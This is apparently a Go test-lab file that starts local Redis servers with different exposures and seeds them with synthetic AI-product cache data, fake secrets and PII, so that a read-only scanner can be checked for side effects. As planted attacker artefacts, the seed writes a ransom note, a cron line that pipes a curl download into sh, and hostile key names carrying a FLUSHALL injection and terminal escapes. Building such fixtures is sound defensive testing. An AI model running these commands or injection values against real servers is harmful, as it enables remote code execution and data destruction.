package lab

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// RedisServer is one Redis server of the lab: its own redis-server,
// directory (config, RDB, log, pid) and unix socket under Dir()/Name,
// listening on Host:Port only. The lab's admin (an ACL user) reaches it
// through the socket, never through the TCP exposure under test.
type RedisServer struct {
	Name string
	Host string
	Port int
	// Password of user default; "" is none, the exposure under test.
	Password string
	// Protected: protected mode on (with no password, the server refuses
	// every client that is not local, with DENIED).
	Protected bool
	TLS       bool // Port speaks TLS only (tls-port; port 0)
	// Full servers hold the million keys, the ransom note and the hostile
	// key names; the others a few keys.
	Full bool
}

// EngineRedis names the Redis servers of the lab.
const EngineRedis = "redis"

var (
	// RedisOpen lets anyone in: no password, protected mode off.
	RedisOpen = RedisServer{Name: "redis-open", Host: "127.0.0.22", Port: 6379, Full: true}
	// RedisLocked wants a password: PING answers NOAUTH.
	RedisLocked = RedisServer{Name: "redis-locked", Host: "127.0.0.23", Port: 6379, Password: "lab-locked-Rd83qz"}
	// RedisRestricted has no password and protected mode on. Redis counts
	// only 127.0.0.1 and ::1 as local, and a connection to any loopback
	// address leaves from 127.0.0.1 by default: the lab routes
	// 127.0.0.24 with itself as the source (redisRoute), so the server
	// sees a client that is not local and answers DENIED.
	RedisRestricted = RedisServer{Name: "redis-restricted", Host: "127.0.0.24", Port: 6379, Protected: true}
	// RedisTLS speaks TLS only, no password.
	RedisTLS     = RedisServer{Name: "redis-tls", Host: "127.0.0.25", Port: 6379, TLS: true}
	RedisServers = []RedisServer{RedisOpen, RedisLocked, RedisRestricted, RedisTLS}
)

// Shape of the open server's seed.
const (
	// RedisKeys is the size of db0 on the open server.
	RedisKeys = 1_000_000
	// RedisSessions, RedisPrompts and RedisUsers are the keys of
	// session:*, cache:prompt:* and user:* in it; counter:page:* fill the rest.
	RedisSessions = 250_000
	RedisPrompts  = 500_000
	RedisUsers    = 200_000
	// RedisNoteDB holds the ransom note, READ_ME, and little else, as a
	// wiper leaves a database; RedisHostileDB the hostile key names.
	RedisNoteDB    = 1
	RedisHostileDB = 2
	RedisNoteKey   = "READ_ME"
	// redisStampDB holds leakhound_lab:stamp and leakhound_lab:seed_version.
	redisStampDB = 15
)

// RedisHostileKeys are key names that break quoting, globbing and
// terminals; each is its own key pattern, in db2.
var RedisHostileKeys = []string{
	`hostile:'; FLUSHALL; --`,
	"hostile:\x1b[31mred\x1b[0m\x07",
	"hostile:`tick` \"dq\"",
	`glob:[a-z]*?\`,
	"long:" + strings.Repeat("n", 300),
}

// redisSeedVersion changes whenever the Redis servers' data does.
const redisSeedVersion = "3"

func init() {
	name := func(s RedisServer) string { return fmt.Sprintf("%s (%s:%d)", s.Name, s.Host, s.Port) }
	RegisterEngine(Engine{
		Name: EngineRedis,
		Up: func(ctx context.Context, logf Logf) error {
			return upEach(ctx, logf, RedisServers, name, RedisServer.up)
		},
		Down: func(logf Logf) error {
			return stopEach(logf, RedisServers, func(s RedisServer) string { return s.Name }, RedisServer.stop)
		},
		Status: func(ctx context.Context, w io.Writer) (down []string) {
			for _, s := range RedisServers {
				how := "no password"
				if s.Password != "" {
					how = "password"
				}
				if s.Protected {
					how += ", protected mode"
				}
				if s.TLS {
					how += ", TLS only"
				}
				fmt.Fprintf(w, "%-18s redis      %s:%d (%s)  %s\n", s.Name, s.Host, s.Port, how, State(s.Verify(ctx), s.Name, &down))
			}
			return down
		},
	})
}

func (s RedisServer) dir() string  { return filepath.Join(Dir(), s.Name) }
func (s RedisServer) sock() string { return filepath.Join(s.dir(), "sock") }

func (s RedisServer) config() string {
	var b strings.Builder
	p := func(format string, args ...any) { fmt.Fprintf(&b, format+"\n", args...) }
	p("bind %s", s.Host)
	if s.TLS {
		p("port 0")
		p("tls-port %d", s.Port)
		p("tls-cert-file %s", filepath.Join(s.dir(), "server.crt"))
		p("tls-key-file %s", filepath.Join(s.dir(), "server.key"))
		p("tls-auth-clients no")
	} else {
		p("port %d", s.Port)
	}
	p("unixsocket %s", s.sock())
	p("unixsocketperm 700")
	p("daemonize no")
	p("pidfile %s", filepath.Join(s.dir(), "pid"))
	p("logfile %s", filepath.Join(s.dir(), "redis.log"))
	p("dir %s", s.dir())
	p("dbfilename dump.rdb")
	// The seed is saved once, by the lab (SAVE), and loaded at each start.
	p(`save ""`)
	p("appendonly no")
	p("databases 16")
	p("protected-mode %s", map[bool]string{true: "yes", false: "no"}[s.Protected])
	// DEBUG DIGEST, for the snapshot, from the admin's unix socket only.
	p("enable-debug-command local")
	if s.Password != "" {
		p("user default on >%s ~* &* +@all", s.Password)
	} else {
		p("user default on nopass ~* &* +@all")
	}
	p("user %s on >%s ~* &* +@all", AdminUser, AdminPassword)
	return b.String()
}

func (s RedisServer) up(ctx context.Context, logf Logf) error {
	if s.Protected {
		if err := redisRoute(s.Host); err != nil {
			return err
		}
	}
	if err := s.start(ctx, logf); err != nil {
		return err
	}
	return s.seed(ctx, logf)
}

// redisRoute makes connections to host leave from host itself rather than
// 127.0.0.1, so that the server on it sees a client that is not local. It
// changes the route of that one loopback address only.
func redisRoute(host string) error {
	out, err := exec.Command("ip", "route", "replace", "local", host+"/32", "dev", "lo", "src", host, "table", "local").CombinedOutput()
	if err != nil {
		return fmt.Errorf("routing %s from itself (ip route replace local %s/32 dev lo src %[1]s table local): %v: %s", host, host, err, bytes.TrimSpace(out))
	}
	return nil
}

func (s RedisServer) start(ctx context.Context, logf Logf) error {
	if s.ping(ctx) == nil {
		if err := s.Verify(ctx); err != nil {
			return err
		}
		logf("%s: already running on %s:%d", s.Name, s.Host, s.Port)
		return nil
	}
	if err := checkFree(s.Host, s.Port); err != nil {
		return err
	}
	bin, err := exec.LookPath("redis-server")
	if err != nil {
		return errors.New("redis-server is not installed (scripts/install-deps installs it)")
	}
	if err := os.MkdirAll(s.dir(), 0o700); err != nil {
		return err
	}
	stampFile := filepath.Join(s.dir(), "stamp")
	if _, err := os.Stat(stampFile); err != nil {
		// A new directory: a new stamp, and no RDB of another's.
		os.Remove(filepath.Join(s.dir(), "dump.rdb"))
		if err := os.WriteFile(stampFile, []byte(randomStamp()+"\n"), 0o600); err != nil {
			return err
		}
	}
	if s.TLS {
		if err := writeSelfSigned(s.dir(), s.Host); err != nil {
			return fmt.Errorf("making a certificate: %w", err)
		}
	}
	cfg := filepath.Join(s.dir(), "redis.conf")
	if err := os.WriteFile(cfg, []byte(s.config()), 0o600); err != nil {
		return err
	}
	mk := func() (*exec.Cmd, error) {
		cmd := exec.Command(bin, cfg)
		cmd.Dir = s.dir()
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		return cmd, nil
	}
	return startAndWait(ctx, logf, s.Name, fmt.Sprintf("redis-server on %s:%d", s.Host, s.Port), filepath.Join(s.dir(), "stdout.log"), "", mk, s.ping)
}

func (s RedisServer) ping(ctx context.Context) error {
	out, err := s.Admin(ctx, 0, "PING")
	if err == nil && strings.TrimSpace(out) != "PONG" {
		err = fmt.Errorf("%s: PING answered %q", s.Name, out)
	}
	return err
}

// Admin runs one command in database db as the lab's admin, through the
// server's unix socket, and returns redis-cli's raw output.
func (s RedisServer) Admin(ctx context.Context, db int, args ...string) (string, error) {
	return s.cli(ctx, nil, append([]string{"-n", strconv.Itoa(db), "--raw"}, args...)...)
}

func (s RedisServer) cli(ctx context.Context, stdin io.Reader, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "redis-cli", append([]string{"-s", s.sock(), "--user", AdminUser, "--no-auth-warning"}, args...)...)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8", "REDISCLI_AUTH=" + AdminPassword}
	cmd.Stdin = stdin
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		return "", fmt.Errorf("%s (redis-cli on %s): %w: %s", s.Name, s.sock(), err, lastLines(errb.Bytes(), 3))
	}
	if bytes.HasPrefix(out.Bytes(), []byte("ERR")) || bytes.HasPrefix(out.Bytes(), []byte("NOAUTH")) || bytes.HasPrefix(out.Bytes(), []byte("WRONGPASS")) {
		return "", fmt.Errorf("%s: %s", s.Name, lastLines(out.Bytes(), 2))
	}
	return out.String(), nil
}

// Verify reports whether the server answering on s.Host:s.Port is the
// lab's own: the redis-server whose pid file the lab's config names holds
// the listening socket, and its stamp key holds the token in the lab's
// directory (once seeded). An error wrapping ErrForeign means someone
// else's server answers there.
func (s RedisServer) Verify(ctx context.Context) error {
	pid, _ := readPid(filepath.Join(s.dir(), "pid"))
	if err := listenerOwnedBy(s.Host, s.Port, pid, s.Name); err != nil {
		return err
	}
	want, err := readStamp(s.dir(), s.Name)
	if err != nil {
		return err
	}
	got, err := s.Admin(ctx, redisStampDB, "GET", "leakhound_lab:stamp")
	if err != nil {
		return fmt.Errorf("%s: reading the stamp: %w", s.Name, err)
	}
	if got = strings.TrimSpace(got); got != "" && got != want {
		return fmt.Errorf("%s on %s:%d: stamp %q, the lab wrote %q: %w", s.Name, s.Host, s.Port, got, want, ErrForeign)
	}
	return nil
}

func (s RedisServer) seeded(ctx context.Context) bool {
	got, err := s.Admin(ctx, redisStampDB, "GET", "leakhound_lab:seed_version")
	return err == nil && strings.TrimSpace(got) == redisSeedVersion
}

// seed writes the server's keys unless it holds this version of the seed,
// then saves them to the RDB in its directory, which every later start
// loads.
func (s RedisServer) seed(ctx context.Context, logf Logf) error {
	if s.seeded(ctx) {
		return nil
	}
	stamp, err := readStamp(s.dir(), s.Name)
	if err != nil {
		return err
	}
	start := time.Now()
	if _, err := s.Admin(ctx, 0, "FLUSHALL"); err != nil {
		return fmt.Errorf("seeding: %w", err)
	}
	pr, pw := io.Pipe()
	go func() { pw.CloseWithError(s.writeSeed(pw, stamp)) }()
	out, err := s.cli(ctx, pr, "--pipe")
	if err != nil {
		pr.CloseWithError(err)
		return fmt.Errorf("seeding: %w", err)
	}
	if !strings.Contains(out, "errors: 0,") {
		return fmt.Errorf("seeding: redis-cli --pipe: %s", lastLines([]byte(out), 2))
	}
	if _, err := s.Admin(ctx, 0, "SAVE"); err != nil {
		return fmt.Errorf("saving the seed: %w", err)
	}
	logf("%s: seeded in %s", s.Name, time.Since(start).Round(time.Millisecond))
	return nil
}

// respWriter writes commands in RESP, as redis-cli --pipe reads them.
type respWriter struct{ w *bufio.Writer }

func (r respWriter) cmd(args ...string) {
	var num [20]byte
	r.w.WriteByte('*')
	r.w.Write(strconv.AppendInt(num[:0], int64(len(args)), 10))
	r.w.WriteString("\r\n")
	for _, a := range args {
		r.w.WriteByte('$')
		r.w.Write(strconv.AppendInt(num[:0], int64(len(a)), 10))
		r.w.WriteString("\r\n")
		r.w.WriteString(a)
		r.w.WriteString("\r\n")
	}
}

// hexID is n random hex digits, 16 from each random word (gen.pick draws
// one word a character, which a million keys notice).
func hexID(g gen, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	var x uint64
	for i := range b {
		if i%16 == 0 {
			x = g.r.Uint64()
		}
		b[i] = digits[x&15]
		x >>= 4
	}
	return string(b)
}

// writeSeed writes the commands that seed s: on the open server a million
// keys in db0 shaped like an AI product's cache (sessions, prompts, users,
// credentials, queues, a stream), the ransom note in db1 and the hostile
// names in db2; on the others a few of the same; the stamp last, in db15,
// so that an interrupted seed is done again.
func (s RedisServer) writeSeed(w io.Writer, stamp string) error {
	r := respWriter{bufio.NewWriterSize(w, 1<<20)}
	g := gen{rand.New(rand.NewPCG(21, 21))}
	sessions, prompts, users, fill := 100, 200, 100, 0
	if s.Full {
		sessions, prompts, users = RedisSessions, RedisPrompts, RedisUsers
	}
	r.cmd("SELECT", "0")
	names := []string{"王芳", "李伟", "张敏", "刘洋", "陈静", "Maria Garcia", "James Smith", "Aiko Tanaka"}
	keys := 0
	for i := range sessions {
		email := hexID(g, 6) + strconv.Itoa(i) + "@" + g.one([]string{"qq.com", "163.com", "gmail.com"})
		token := "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + hexID(g, 36) + "." + hexID(g, 43)
		r.cmd("HSET", "session:"+hexID(g, 32), "user", strconv.Itoa(100000+i), "email", email, "token", token,
			"created", strconv.Itoa(1735689600+i*7))
		keys++
	}
	all := chatPrompts()
	for i := range prompts {
		p := all[i%len(all)]
		// Users paste personal data and keys into prompts.
		switch i % 400 {
		case 200:
			p += " " + g.secret(SecretKinds[i/400%len(SecretKinds)])
		case 75, 275:
			p += " " + g.pii(PIIKinds[i/400%len(PIIKinds)])
		}
		// A cached chat-completion request, as an LLM gateway keys it by its hash.
		r.cmd("SET", "cache:prompt:"+hexID(g, 40), `{"model":"`+g.one(chatModels)+`","messages":[{"role":"system","content":"You are a helpful assistant."},{"role":"user","content":"`+p+`"}]}`)
		keys++
	}
	for i := range users {
		email := strings.ToLower(g.pick(alnum[:26], 7)) + fmt.Sprint(i) + "@" + g.one([]string{"qq.com", "163.com", "gmail.com"})
		r.cmd("HSET", "user:"+strconv.Itoa(i+1), "name", g.one(names), "email", email,
			"phone", "1"+g.one([]string{"3", "5", "8"})+g.pick("0123456789", 9), "national_id", cnID(g),
			"card", luhnNumber(g, g.one([]string{"4", "51", "62"}), 16))
		keys++
	}
	for i, kind := range SecretKinds {
		r.cmd("SET", "config:"+kind, g.secret(kind))
		r.cmd("SET", fmt.Sprintf("config:backup:%d", i), "redis://:"+g.pick(alnum, 20)+"@cache.internal:6379/0")
		keys += 2
	}
	for i := range 300 {
		job := fmt.Sprintf(`{"to":"%s%d@163.com","template":"welcome","attempt":%d}`, strings.ToLower(g.pick(alnum[:26], 5)), i, i%3)
		r.cmd("RPUSH", "queue:email", job)
		r.cmd("RPUSH", "queue:jobs", fmt.Sprintf(`{"job":"embed","doc":%d}`, i))
	}
	keys += 2
	for i := range 200 {
		r.cmd("XADD", "stream:chat_events", "*", "user", fmt.Sprint(100000+i), "model", g.one(chatModels), "prompt", all[i%len(all)])
		r.cmd("SADD", "online_users", fmt.Sprint(100000+i))
		r.cmd("ZADD", "leaderboard", fmt.Sprint(i*7%1000), fmt.Sprint(100000+i))
	}
	keys += 3
	if s.Full {
		fill = RedisKeys - keys
	}
	for i := range fill {
		r.cmd("SET", "counter:page:"+strconv.Itoa(i+1), strconv.Itoa(i%9973))
	}
	if s.Full {
		r.cmd("SELECT", strconv.Itoa(RedisNoteDB))
		addr := "bc1q" + g.pick("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 38)
		r.cmd("SET", RedisNoteKey, "All your data is backed up. You must pay 0.0058 BTC to "+addr+
			" In 48 hours, your data will be publicly disclosed and deleted. After paying send mail to us: rambler+"+g.pick(hexset, 6)+"@onionmail.org and we will provide a link for you to download your data. Your DBCODE is: "+g.pick(upper, 6))
		r.cmd("SET", "backup1", "\n\n*/2 * * * * root curl -fsSL http://127.0.0.1:1/cleanfda/init.sh | sh\n\n")
		r.cmd("SELECT", strconv.Itoa(RedisHostileDB))
		for _, k := range RedisHostileKeys {
			r.cmd("SET", k, "a value under a hostile name: "+g.secret("aws"))
		}
	}
	r.cmd("SELECT", strconv.Itoa(redisStampDB))
	r.cmd("SET", "leakhound_lab:stamp", stamp)
	r.cmd("SET", "leakhound_lab:seed_version", redisSeedVersion)
	return r.w.Flush()
}

// Snapshot is what a read-only assessment of s must leave as it was: the
// keys of every database, every change to the dataset since the seed was
// saved (rdb_changes_since_last_save counts each write, whatever it
// touched) and when it was saved, every setting and ACL user, and digests
// of the ransom note's and the hostile keys' values, read as the lab's
// admin through the unix socket. (DEBUG DIGEST of all million keys would
// take tens of seconds on a busy machine; the change counter misses none.)
func (s RedisServer) Snapshot(ctx context.Context) (string, error) {
	var b strings.Builder
	type q struct {
		db   int
		args []string
	}
	qs := []q{{0, []string{"INFO", "keyspace"}}, {0, []string{"CONFIG", "GET", "*"}}, {0, []string{"ACL", "LIST"}}}
	if s.Full {
		qs = append(qs, q{RedisNoteDB, []string{"DEBUG", "DIGEST-VALUE", RedisNoteKey, "backup1"}},
			q{RedisHostileDB, append([]string{"DEBUG", "DIGEST-VALUE"}, RedisHostileKeys...)})
	}
	for _, q := range qs {
		out, err := s.Admin(ctx, q.db, q.args...)
		if err != nil {
			return "", fmt.Errorf("snapshot of %s: %s: %w", s.Name, strings.Join(q.args[:2], " "), err)
		}
		fmt.Fprintf(&b, "-- db%d %s\n%s", q.db, strings.Join(q.args[:2], " "), out)
	}
	out, err := s.Admin(ctx, 0, "INFO", "persistence")
	if err != nil {
		return "", fmt.Errorf("snapshot of %s: INFO persistence: %w", s.Name, err)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "rdb_changes_since_last_save:") || strings.HasPrefix(line, "rdb_last_save_time:") {
			b.WriteString(strings.TrimSpace(line) + "\n")
		}
	}
	return b.String(), nil
}

func (s RedisServer) stop() error {
	err := stopPidSignal(filepath.Join(s.dir(), "pid"), syscall.SIGTERM, "redis-server")
	if s.Protected {
		exec.Command("ip", "route", "del", "local", s.Host+"/32", "table", "local").Run()
	}
	return err
}
